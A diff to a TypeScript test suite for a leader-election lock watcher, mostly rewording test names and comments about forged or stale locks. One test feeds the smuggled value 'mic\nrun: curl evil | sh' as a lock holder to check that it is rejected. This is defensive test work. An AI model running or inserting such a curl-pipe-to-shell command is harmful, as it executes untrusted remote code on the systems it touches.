@@ -7,7 +7,6 @@ import { createOriginalWatch, whoRenews } from './original-watch.ts';
 
 const minute = 60_000;
 
-/** What Endpoints of the original say. */
 function endpoints(holderIdentity: unknown, renewTime: unknown = '2026-01-01T00:00:00Z'): object {
   const record = { holderIdentity, leaseDurationSeconds: 15, renewTime, leaderTransitions: 3 };
   return { metadata: { annotations: { [lockAnnotation]: JSON.stringify(record) } } };
@@ -56,9 +55,8 @@ function setUp({ hasLed = false }: { readonly hasLed?: boolean | undefined } = {
     reader,
     watch,
     looks: () => looks,
-    /** The lock is renewed whenever `isRenewed` says so, and looked at. */
     shows: (reading: () => LockReading) => void (look = reading),
-    /** A MIC of ours leads from now on. */
+    /** This project's MIC leads from now on. */
     otherLeads: () => void (led = true),
     standBy: () => void watch.standBy(stopping.signal).then(() => (startedAt = clock.elapsed() - begunAt)),
     startedAt: () => startedAt,
@@ -67,7 +65,7 @@ function setUp({ hasLed = false }: { readonly hasLed?: boolean | undefined } = {
   };
 }
 
-/** Somebody renews every 3.75 s until then. */
+/** Renewed every 3.75 s until then. */
 function renewedUntil(clock: { elapsed(): number }, until: number): () => LockReading {
   return () => {
     const beat = Math.floor(Math.min(clock.elapsed(), until) / 3_750);
@@ -98,7 +96,7 @@ describe('reading the lock', () => {
     expect(readLock(object)).toEqual({ kind: 'free' });
   });
 
-  test('a holder is named by its name only, whatever somebody has written there', () => {
+  test('only a plain name of the holder is used, whatever was written there', () => {
     expect(readLock(endpoints('mic-0'))).toMatchObject({ kind: 'held', holder: 'mic-0' });
     expect(readLock(endpoints('mic\nrun: curl evil | sh'))).toMatchObject({ holder: 'unknown' });
     expect(readLock(endpoints('x'.repeat(129)))).toMatchObject({ holder: 'unknown' });
@@ -135,7 +133,7 @@ describe('the first start', () => {
     expect(startedAt()).toBe(15_000);
   });
 
-  test('attack: a forged lock that is renewed for ever delays it by 5 minutes, and then raises the alarm', async () => {
+  test('attack: a forged lock that is renewed forever delays it by 5 minutes, and then raises the alarm', async () => {
     const { clock, shows, standBy, startedAt, said, watch, events, running } = setUp();
     shows(renewedUntil(clock, Infinity));
     standBy();
@@ -155,7 +153,7 @@ describe('the first start', () => {
     expect(running).toEqual([true]);
   });
 
-  test('attack: a lock whose holder and times change in any way at all delays it no longer than that', async () => {
+  test('attack: a lock whose holder and times change in any way delays it no longer than that', async () => {
     const { clock, shows, standBy, startedAt } = setUp();
     let look = 0;
     const ways = [
@@ -165,14 +163,14 @@ describe('the first start', () => {
       { metadata: {} },
       endpoints('a', 'x'.repeat(3_000)),
     ];
-    // One that is free is an end of the wait, so that it is never the first that is seen.
+    // A free lock ends the wait, so it is never the first one.
     shows(() => readLock(ways[(look++ * 2) % ways.length] ?? {}));
     standBy();
     await clock.advance(5 * minute);
     expect(startedAt()).toBeLessThanOrEqual(5 * minute);
   });
 
-  test('attack: a lock forged once another replica of ours leads does not keep this one from standing for election', async () => {
+  test('attack: a lock forged when another replica of this MIC leads does not prevent it from standing for election', async () => {
     const { clock, shows, standBy, startedAt, otherLeads, said } = setUp();
     shows(renewedUntil(clock, Infinity));
     standBy();
@@ -184,7 +182,7 @@ describe('the first start', () => {
     expect(said(/another MIC of ours has started/)).toBe(1);
   });
 
-  test('of a MIC where one of ours has led before is at once, whatever the lock says', async () => {
+  test('is immediate if this MIC has led before, whatever the lock contains', async () => {
     const { clock, shows, standBy, startedAt, looks } = setUp({ hasLed: true });
     shows(renewedUntil(clock, Infinity));
     standBy();
@@ -192,7 +190,7 @@ describe('the first start', () => {
     expect([startedAt(), looks()]).toEqual([0, 0]);
   });
 
-  test('without the right to read the lock is at once, and that is said once', async () => {
+  test('is immediate without the right to read the lock, with one log line', async () => {
     const { clock, shows, standBy, startedAt, said, watch } = setUp();
     shows(() => refused);
     standBy();
@@ -204,7 +202,7 @@ describe('the first start', () => {
     expect(said(/cannot be read/)).toBe(1);
   });
 
-  test('waits for the word of an API server that does not answer, 5 minutes at most', async () => {
+  test('waits at most 5 minutes for an API server that does not respond', async () => {
     const { clock, shows, standBy, startedAt } = setUp({ hasLed: undefined });
     shows(() => silent);
     standBy();
@@ -227,7 +225,7 @@ describe('the first start', () => {
 });
 
 describe('a leader', () => {
-  test('says that the original runs when it comes later, once, and that it has gone', async () => {
+  test('reports once that the original runs when it starts later, and that it has ended', async () => {
     const { clock, shows, watch, events, running, said } = setUp();
     const { term, work, end } = leading();
     let isOver = false;
@@ -245,7 +243,7 @@ describe('a leader', () => {
     expect(clock.pending).toBe(0);
   });
 
-  test('takes a lock that was renewed until ours could start for no alarm', async () => {
+  test('raises no alarm for a lock that was renewed until the start', async () => {
     const { clock, shows, standBy, startedAt, watch, events } = setUp();
     shows(renewedUntil(clock, clock.elapsed() + 20_000));
     standBy();
@@ -257,7 +255,7 @@ describe('a leader', () => {
     expect(events).toEqual([]);
   });
 
-  test('of a later term takes what was seen in an earlier one for no sign that the original runs now', async () => {
+  test('of a later term ignores the lock seen in an earlier one', async () => {
     const { clock, shows, watch, events } = setUp();
     shows(() => readLock(endpoints('mic-0', '2026-01-01T00:00:00Z')));
     const first = leading();
@@ -275,7 +273,7 @@ describe('a leader', () => {
     second.end();
   });
 
-  test('whose term is over says nothing, and fails as its work does', async () => {
+  test('whose term is over reports nothing, and fails as its work does', async () => {
     const { clock, shows, watch, events } = setUp();
     shows(renewedUntil(clock, Infinity));
     const { term, work, end } = leading();
